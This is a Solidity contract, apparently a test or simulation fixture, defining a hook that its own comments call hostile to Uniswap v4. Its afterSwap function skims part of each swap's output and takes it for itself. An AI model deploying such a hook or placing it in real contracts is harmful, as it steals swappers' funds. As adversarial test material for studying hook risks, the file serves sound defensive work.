// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {V4Model} from "../models/V4.sol";
import {Dealer} from "./Dealer.sol";

interface ITake {
    function take(address currency, address to, uint256 amount) external;
}

/// A hostile hook of Uniswap v4's own manager, at an address that lets it act around swaps and keep part of what they buy.
contract RogueHook is Dealer {
    function beforeSwap(address, V4Model.PoolKey calldata, V4Model.SwapParams calldata, bytes calldata)
        external
        returns (bytes4, int256, uint24)
    {
        _moment();
        return (this.beforeSwap.selector, 0, 0);
    }

    /// Of what is bought it keeps the part that an honest hook would not.
    function afterSwap(
        address,
        V4Model.PoolKey calldata key,
        V4Model.SwapParams calldata params,
        int256 delta,
        bytes calldata
    ) external returns (bytes4, int128) {
        _moment();
        int256 out = params.zeroForOne ? int256(int128(delta)) : delta >> 128;
        uint256 keeps = out > 0 && claims > pays ? uint256(out) * (claims - pays) / claims : 0;
        if (keeps > 0) ITake(msg.sender).take(params.zeroForOne ? key.currency1 : key.currency0, address(this), keeps);
        _moment();
        return (this.afterSwap.selector, int128(int256(keeps)));
    }
}
